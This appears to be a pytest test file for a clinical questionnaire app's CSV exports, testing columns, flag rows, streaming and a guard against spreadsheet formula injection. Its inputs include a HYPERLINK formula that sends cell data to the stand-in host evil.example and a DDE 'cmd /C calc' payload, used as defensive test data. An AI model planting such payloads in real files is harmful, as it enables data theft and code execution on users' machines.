"""CSV exports: submissions with one column per item, flags, the formula guard, streaming."""

from __future__ import annotations

import csv
import inspect
import io
import json
from collections.abc import Iterator

import pytest
import sqlalchemy as sa
from flask import Flask

from questionnaire.exports.csv import (
    FLAG_COLUMNS,
    evidence_cell,
    flags_csv,
    safe_cell,
    submissions_csv,
)
from questionnaire.extensions import db
from questionnaire.questions import catalogue
from questionnaire.records.models import Flag, Submission
from questionnaire.records.references import format_reference as shown
from questionnaire.review import requests as patient_requests
from tests.exports import (
    BLOOD_PRESSURE,
    INSTRUMENTS,
    NO_FLAGS,
    URGENT,
    load,
    make_clinician,
    submit,
)
from tests.harness.app import Clock

FIRST_COLUMNS = ["reference", "submitted_at", "status", "highest_level", "outcome", "rules_version"]
TOTALS = ["phq9_total", "gad7_total", "pcl5_total", "auditc_total", "cssrs_risk"]
HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")'


def parse(chunks: Iterator[str]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(chunks))))


def all_submissions() -> list[Submission]:
    return list(db.session.scalars(sa.select(Submission).order_by(Submission.id)))


def test_the_header_names_the_columns_then_every_item_in_order() -> None:
    [header] = csv.reader(io.StringIO("".join(submissions_csv([]))))
    assert header == FIRST_COLUMNS + list(catalogue.ITEMS) + TOTALS + ["corrections"]
    [flag_header] = csv.reader(io.StringIO("".join(flags_csv([]))))
    assert (
        flag_header
        == list(FLAG_COLUMNS)
        == [
            "reference",
            "rule",
            "level",
            "message",
            "source",
            "evidence",
            "rules_version",
            "acknowledged_by",
            "acknowledged_at",
        ]
    )


def test_one_row_per_submission_with_coded_values(app: Flask, clock: Clock) -> None:
    urgent = submit(app, URGENT)
    clock.advance(minutes=5)
    pressure = submit(app, BLOOD_PRESSURE)
    with app.app_context():
        submissions = all_submissions()
        table = app.extensions["rule_table"]
        rows = parse(submissions_csv(submissions))
    # As the screen shows them: K7QM-4TZ9.
    assert [row["reference"] for row in rows] == [shown(urgent), shown(pressure)]
    first, second = rows
    assert first["submitted_at"] == "2026-06-01T12:00:00+00:00"
    assert second["submitted_at"] == "2026-06-01T12:05:00+00:00"
    assert (first["status"], first["highest_level"], first["outcome"]) == ("new", "urgent", "")
    assert second["highest_level"] == "review"
    assert first["rules_version"] == table.version
    # Codes, never the words a patient saw.
    assert first["reasons"] == "depression;suicidal_thoughts"
    assert first["suicidal_thoughts_now"] == "yes"
    assert first["region"] == "CA-ON"
    assert first["antidepressants_tried"] == "2"
    assert first["privacy_consent"] == "true"
    assert first["understands_review"] == "true"
    assert first["date_of_birth"] == "1980-05-17"
    assert first["weight_value"] == "70"
    assert first["full_name"] == "Sam Example"
    # Missing answers are empty; an unticked multi-choice too.
    assert second["suicidal_thoughts_now"] == ""
    assert second["phone"] == ""
    assert second["treatments"] == ""
    assert second["other_drugs_past_year"] == "cocaine;opioids"
    assert second["weight_value"] == "154.5"
    assert second["weight_unit"] == "lb"
    assert second["bp_reading"] == "152/94"
    # Derived facts are not columns.
    assert "bp_systolic" not in second


def test_a_formula_in_an_answer_is_neutralised(app: Flask) -> None:
    answers = {
        **NO_FLAGS,
        "full_name": HYPERLINK,
        "medications": "@SUM(1+1) and sertraline",
        "phone": "+1 416 555 0123",
        "ketamine_reaction_details": "-2+3",
    }
    submit(app, answers)
    with app.app_context():
        [row] = parse(submissions_csv(all_submissions()))
    assert row["full_name"] == "'" + HYPERLINK
    assert row["medications"] == "'@SUM(1+1) and sertraline"
    assert row["phone"] == "'+1 416 555 0123"
    assert row["ketamine_reaction_details"] == "'-2+3"
    assert row["email"] == "sam@example.com"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_an_apostrophe(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["", "Sam", "a=b", "1980-05-17", "'quoted", " =1"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_a_multiline_answer_stays_in_one_cell(app: Flask) -> None:
    submit(app, {**NO_FLAGS, "medications": 'sertraline 100 mg\r\nvitamin D, "extra"'})
    with app.app_context():
        [row] = parse(submissions_csv(all_submissions()))
    assert row["medications"].splitlines() == ["sertraline 100 mg", 'vitamin D, "extra"']


def test_the_flags_csv_has_a_row_per_flag_with_its_acknowledgement(
    app: Flask, clock: Clock
) -> None:
    urgent = submit(app, URGENT)
    with app.app_context():
        clinician = make_clinician(email="reviewer@clinic.example")
        flag = next(f for f in load(urgent).flags if f.rule == "suicidal_thoughts_now")
        flag.acknowledged_by = clinician
        flag.acknowledged_at = clock()
        db.session.commit()
        version = app.extensions["rule_table"].version
        flags = list(db.session.scalars(sa.select(Flag).order_by(Flag.id)))
        rows = parse(flags_csv(flags))
    assert [(row["reference"], row["rule"], row["level"]) for row in rows] == [
        (shown(urgent), "suicidal_thoughts_now", "urgent"),
        (shown(urgent), "suicidal_thoughts_recent", "review"),
    ]
    # The snapshots stored on each flag row, and its evidence as compact JSON.
    for row, flag in zip(rows, flags, strict=True):
        assert (row["message"], row["source"]) == (flag.message, flag.source)
        assert json.loads(row["evidence"]) == flag.evidence
    assert rows[0]["evidence"] == ('[{"item":"suicidal_thoughts_now","value":"yes"}]')
    assert {row["rules_version"] for row in rows} == {version}
    assert rows[0]["acknowledged_by"] == "reviewer@clinic.example"
    assert rows[0]["acknowledged_at"] == "2026-06-01T12:00:00+00:00"
    assert (rows[1]["acknowledged_by"], rows[1]["acknowledged_at"]) == ("", "")


def test_a_flag_row_keeps_its_snapshots_when_the_table_changes_and_guards_formulas(
    app: Flask,
) -> None:
    """The row is the flag as stored, not as the rule reads today; formula starts are neutral."""
    urgent = submit(app, URGENT)
    with app.app_context():
        [flag, _] = load(urgent).flags
        flag.message = '=HYPERLINK("https://evil.example")'
        flag.source = "+1 Old source, 2019"
        flag.evidence = [{"item": "medications", "value": "=SUM(1)", "note": "é"}]
        db.session.commit()
        rows = parse(flags_csv(load(urgent).flags))
    assert rows[0]["message"] == '\'=HYPERLINK("https://evil.example")'
    assert rows[0]["source"] == "'+1 Old source, 2019"
    assert rows[0]["evidence"] == '[{"item":"medications","note":"é","value":"=SUM(1)"}]'


def test_an_empty_evidence_is_an_empty_cell() -> None:
    assert evidence_cell([]) == "" and evidence_cell(None) == ""


def test_exports_stream_one_line_at_a_time(app: Flask) -> None:
    submit(app, URGENT)
    submit(app, NO_FLAGS)
    taken: list[str] = []

    def source() -> Iterator[Submission]:
        for submission in all_submissions():
            taken.append(submission.reference)
            yield submission

    with app.app_context():
        chunks = submissions_csv(source())
        assert inspect.isgenerator(chunks)
        assert next(chunks).startswith('"reference","submitted_at",')
        assert taken == []  # the header is out before any submission is read
        next(chunks)
        assert len(taken) == 1
        assert len(list(chunks)) == 1
        assert len(taken) == 2
        assert inspect.isgenerator(flags_csv([]))


def test_the_instruments_totals_are_columns_empty_when_incomplete(app: Flask) -> None:
    submit(app, INSTRUMENTS)
    submit(app, NO_FLAGS)
    with app.app_context():
        answered, skipped = parse(submissions_csv(all_submissions()))
    assert (answered["phq9_total"], answered["gad7_total"], answered["pcl5_total"]) == (
        "14",
        "",  # one GAD-7 item skipped: no score, never the partial 6
        "20",
    )
    assert answered["phq9_9"] == "0" and answered["gad7_7"] == ""
    assert (skipped["phq9_total"], skipped["gad7_total"], skipped["pcl5_total"]) == ("", "", "")


def test_corrections_are_one_column_beside_the_unchanged_answers(app: Flask, clock: Clock) -> None:
    reference = submit(app, BLOOD_PRESSURE)
    plain = submit(app, NO_FLAGS)
    with app.app_context():
        clinician = make_clinician()
        submission = load(reference)
        patient_requests.add_correction(
            db.session, clinician, submission, "medications", "Also lithium 300 mg"
        )
        clock.advance(minutes=1)
        patient_requests.add_correction(
            db.session, clinician, submission, "weight_value", "=70, not 154.5"
        )
        rows = parse(submissions_csv(all_submissions()))
    corrected, untouched = rows
    assert corrected["reference"] == shown(reference)
    # The answers stay as the patient gave them.
    assert corrected["weight_value"] == "154.5"
    assert corrected["medications"] == BLOOD_PRESSURE["medications"]
    first, second = corrected["corrections"].split("\n")
    assert first.startswith("medications: Also lithium 300 mg [")
    assert second.startswith("weight_value: =70, not 154.5 [")  # not a formula: starts "weight"
    assert untouched["reference"] == shown(plain)
    assert untouched["corrections"] == ""


def test_the_export_reads_each_batchs_corrections_in_one_query(app: Flask) -> None:
    from questionnaire.records.queue import QueueFilter, all_in_queue

    for _ in range(3):
        submit(app, NO_FLAGS)
    with app.app_context():
        statements: list[str] = []
        sa.event.listen(db.engine, "before_cursor_execute", lambda *a: statements.append(a[2]))
        rows = list(all_in_queue(db.session, QueueFilter()))
        for row in rows:
            assert row.corrections == []
        corrections = [s for s in statements if "FROM corrections" in s]
    assert len(rows) == 3
    assert len(corrections) == 1


#: Separators a spreadsheet may split a line on: French-locale Excel splits on ";".
SPREADSHEET_SEPARATORS = [",", ";", "\t", "|"]
FORMULA_CHARS = ("=", "+", "-", "@")


def _pieces_as_a_spreadsheet_splits(text: str, separator: str) -> list[str]:
    """Split every line of a file on one separator, ignoring quotes (the worst reader)."""
    pieces = []
    for line in text.splitlines():
        for piece in line.split(separator):
            pieces.append(piece.lstrip('"'))
    return pieces


@pytest.mark.parametrize("separator", SPREADSHEET_SEPARATORS)
def test_no_cell_reads_as_a_formula_whatever_the_spreadsheet_splits_on(
    app: Flask, separator: str
) -> None:
    answers = {
        **NO_FLAGS,
        "full_name": "Sam;=1+1",
        "medications": "Tylenol;=1+1, +cmd|' /C calc'!A0\tsertraline|@SUM(A1)\n-2+3",
        "ketamine_reaction_details": 'said "ok",=HYPERLINK("x")',
    }
    submit(app, answers)
    with app.app_context():
        text = "".join(submissions_csv(all_submissions()))
    for piece in _pieces_as_a_spreadsheet_splits(text, separator):
        assert not piece.startswith(FORMULA_CHARS), (separator, piece)
    # Every field is quoted, and a reader with the right separator gets the text back whole.
    lines = text.splitlines()
    assert all(line.startswith('"') for line in lines[:1])
    [row] = parse(iter([text]))
    assert row["full_name"] == "Sam;'=1+1"
    assert row["medications"].startswith("Tylenol;'=1+1, +cmd|' /C calc'!A0\tsertraline|'@SUM")


def test_a_flag_cell_is_neutralised_after_every_separator(app: Flask) -> None:
    submit(app, BLOOD_PRESSURE)
    with app.app_context():
        flags = list(db.session.scalars(sa.select(Flag)))
        for flag in flags:
            flag.message = "Check;=1+1|@x"
        text = "".join(flags_csv(flags))
        db.session.rollback()
    for separator in SPREADSHEET_SEPARATORS:
        for piece in _pieces_as_a_spreadsheet_splits(text, separator):
            assert not piece.startswith(FORMULA_CHARS), (separator, piece)
